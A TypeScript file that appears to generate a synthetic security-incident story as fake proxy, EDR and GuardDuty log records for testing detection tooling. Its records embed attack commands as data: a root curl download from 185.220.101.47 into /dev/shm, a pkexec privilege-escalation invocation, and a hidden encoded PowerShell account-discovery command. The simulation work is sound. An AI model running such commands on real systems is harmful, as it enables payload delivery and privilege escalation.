import { person, production, server } from './organisation.ts';
import { connectionAction, finding, instance } from './records/guardduty.ts';
import { type Threat, threat } from './records/sentinelone.ts';
import { dnsLine, firewallLine } from './records/zscaler.ts';
import { webLine } from './records/zscaler-web.ts';
import type { Story } from './story.ts';

const developer = person('john.doe');
const administrator = person('admin02');

/** The one address here that is not reserved: the brief names 185.x. */
const remote = '185.220.101.47';

const installer = {
  name: 'driver-update-setup.exe',
  url: 'downloads.example.net/tools/driver-update-setup.exe',
  md5: '5f4d1c3b2a19088776655443322110ff',
  sha1: '9a1b3c5d7e9f00112233445566778899aabbccdd',
  sha256: '3b7e1f90a2c4d6e8f00112233445566778899aabbccddeeff001122334455667',
};

const onServer: Pick<Threat, 'host' | 'os' | 'ip' | 'publicIp'> = {
  host: server.host,
  os: 'linux',
  ip: server.privateIp,
  publicIp: server.publicIp,
};

export const story: Story = {
  title: 'A Tuesday at the office',
  what:
    'A download by john.doe is blocked, someone gains root on server-prod-01, a script runs in the session of admin02, and a connection of the server to ' +
    '185.220.101.47 is blocked.',
  principals: [developer.login, administrator.login],
  ips: [remote],
  hosts: [developer.host, server.host, administrator.host],
  beats: [
    {
      minutesBefore: 16 * 60 + 5,
      source: 'zscaler',
      what: 'The proxy blocks a download by john.doe',
      record: (at, random) =>
        webLine(at, random, {
          person: developer,
          url: installer.url,
          serverIp: '203.0.113.91',
          category: 'Malware Sites',
          superCategory: 'Advanced Security',
          file: { name: installer.name, type: 'EXE', md5: installer.md5, sha256: installer.sha256 },
          blocked: {
            reason: 'Malware block: malicious file',
            rule: 'Malware Protection',
            ruleType: 'MalwareProtection',
            threat: 'Win32.Trojan.Agent',
            malware: 'Trojan',
            risk: 100,
          },
        }),
    },
    {
      minutesBefore: 16 * 60 + 4,
      source: 'sentinelone',
      what: 'The same file, from a second try, is killed and quarantined on the laptop of john.doe',
      record: (at, random) =>
        threat(at, random, {
          name: installer.name,
          classification: 'Trojan',
          confidence: 'malicious',
          verdict: 'true_positive',
          incident: 'resolved',
          mitigation: 'mitigated',
          actions: ['kill', 'quarantine'],
          preempted: true,
          engines: ['On-Write Static AI', 'SentinelOne Cloud'],
          detection: 'static',
          path: `\\Device\\HarddiskVolume3\\Users\\john.doe\\Downloads\\${installer.name}`,
          originator: 'chrome.exe',
          processUser: 'EXAMPLE\\john.doe',
          host: developer.host,
          os: 'windows',
          ip: developer.privateIp,
          publicIp: developer.publicIp,
          techniques: [{ tactic: 'Execution', id: 'T1204.002', name: 'User Execution: Malicious File' }],
          description: 'A known trojan was written to disk by a browser; the download was blocked.',
          hashes: { md5: installer.md5, sha1: installer.sha1, sha256: installer.sha256 },
        }),
    },
    {
      minutesBefore: 11 * 60 + 20,
      source: 'sentinelone',
      what: 'A process of the application account becomes root on server-prod-01; nothing has been done about it yet',
      record: (at, random) =>
        threat(at, random, {
          ...onServer,
          name: 'pkexec (privilege escalation)',
          classification: 'Privilege Escalation',
          confidence: 'malicious',
          incident: 'unresolved',
          mitigation: 'not_mitigated',
          engines: ['Behavioral AI'],
          path: '/tmp/.cache/pwn',
          commandLine: '/tmp/.cache/pwn --target /usr/bin/pkexec',
          originator: 'java',
          processUser: 'app',
          techniques: [{ tactic: 'Privilege Escalation', id: 'T1068', name: 'Exploitation for Privilege Escalation' }],
          description: 'A process gained root through a vulnerable setuid program.',
        }),
    },
    {
      minutesBefore: 7 * 60 + 12,
      source: 'sentinelone',
      what: 'An encoded PowerShell script runs in the session of admin02; an analyst is looking at it',
      record: (at, random) =>
        threat(at, random, {
          name: 'powershell.exe (encoded script)',
          classification: 'Malicious Script',
          confidence: 'suspicious',
          verdict: 'suspicious',
          incident: 'in_progress',
          mitigation: 'not_mitigated',
          engines: ['Behavioral AI', 'Script Control'],
          path: '\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          commandLine:
            'powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand RwBlAHQALQBBAEQAVQBzAGUAcgAgAC0ARgBpAGwAdABlAHIAIAAqAA==',
          originator: 'winrm',
          processUser: 'EXAMPLE\\admin02',
          host: administrator.host,
          os: 'windows',
          ip: administrator.privateIp,
          publicIp: administrator.publicIp,
          techniques: [
            { tactic: 'Execution', id: 'T1059.001', name: 'PowerShell' },
            { tactic: 'Discovery', id: 'T1087.002', name: 'Account Discovery: Domain Account' },
          ],
          description: 'An encoded script listed every account of the domain.',
        }),
    },
    {
      minutesBefore: 3 * 60 + 32,
      source: 'zscaler',
      what: `server-prod-01 looks up a name that leads to ${remote}`,
      record: (at, random) =>
        dnsLine(at, random, {
          person: { ...administrator, login: server.host, email: server.host, host: server.host },
          name: 'relay.example.org',
          answer: remote,
          category: 'Miscellaneous or Unknown',
        }),
    },
    {
      minutesBefore: 3 * 60 + 31,
      source: 'zscaler',
      what: `The firewall drops the connection to ${remote}, again and again`,
      times: 6,
      secondsApart: 20,
      record: (at, random) =>
        firewallLine(at, random, {
          who: server.host,
          department: 'Servers',
          host: server.host,
          location: 'AWS us-east-1',
          from: server.privateIp,
          to: remote,
          port: 443,
          service: 'HTTPS',
          country: 'Germany',
          drop: { rule: 'Block known command and control', threat: 'Tor exit node', category: 'Botnet Callback' },
        }),
    },
    {
      minutesBefore: 3 * 60 + 30,
      source: 'sentinelone',
      what: `The agent blocks the connection of server-prod-01 to ${remote}`,
      record: (at, random) =>
        threat(at, random, {
          ...onServer,
          name: `curl (connection to ${remote})`,
          classification: 'Command and Control',
          confidence: 'malicious',
          verdict: 'true_positive',
          incident: 'resolved',
          mitigation: 'mitigated',
          actions: ['kill'],
          preempted: true,
          engines: ['Behavioral AI', 'Firewall Control'],
          path: '/usr/bin/curl',
          commandLine: `curl -sk https://${remote}/update -o /dev/shm/u`,
          originator: 'sh',
          processUser: 'root',
          techniques: [
            { tactic: 'Command and Control', id: 'T1071.001', name: 'Application Layer Protocol: Web Protocols' },
          ],
          description: `An outbound connection to ${remote}:443 was blocked.`,
        }),
    },
    {
      minutesBefore: 3 * 60 + 10,
      source: 'guardduty',
      what: `GuardDuty sees server-prod-01 try to reach ${remote}`,
      record: (at, random) =>
        finding(at, random, {
          account: production,
          region: 'us-east-1',
          type: 'UnauthorizedAccess:EC2/TorClient',
          severity: 8,
          title: `The EC2 instance ${server.instanceId} is communicating with a Tor entry node.`,
          description: `The EC2 instance ${server.instanceId} (${server.host}) is communicating with IP address ${remote} on the Tor network.`,
          resource: instance({ id: server.instanceId, name: server.host, region: 'us-east-1', ...server }),
          action: connectionAction({
            direction: 'OUTBOUND',
            ip: remote,
            localIp: server.privateIp,
            localPort: 43_122,
            remotePort: 443,
            blocked: true,
          }),
          count: 6,
          lasted: 5,
        }),
    },
  ],
};
